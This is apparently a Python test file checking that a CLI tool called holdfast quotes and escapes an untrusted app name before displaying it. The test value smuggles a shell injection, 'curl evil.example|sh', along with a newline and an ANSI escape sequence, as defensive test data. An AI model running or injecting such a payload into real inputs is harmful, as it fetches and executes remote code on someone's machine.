"""What is to be copied, and what is said while something is awaited: nothing that Redis holds gets a word of its own there."""

from holdfast.cli import show
from holdfast.cli.options import Where
from holdfast.client import ConversationState
from holdfast.client.stack import announce
from holdfast.conversation import Status

WRITTEN = "shop:app; curl evil.example|sh\n\x1b[2K"


def test_the_commands_that_show_offers_are_quoted():
    for status in (Status.QUARANTINED, Status.GENERATING):
        state = ConversationState(status, None, None, None, [], [], 1, app=WRITTEN, problem="it cannot be imported")
        shown = show.Shown(WRITTEN, state, [], now=3)
        for said in show._reasons(shown, Where()):
            assert "\x1b" not in said
            assert "\n" not in said
            assert "; curl" not in said.partition("'")[0]


def test_a_line_that_is_said_meanwhile_is_one_line(capsys):
    announce(f"the store is bound to the Ray cluster at {WRITTEN}")
    said = capsys.readouterr().err
    assert said == "the store is bound to the Ray cluster at shop:app; curl evil.example|sh\\n\\x1b[2K\n"
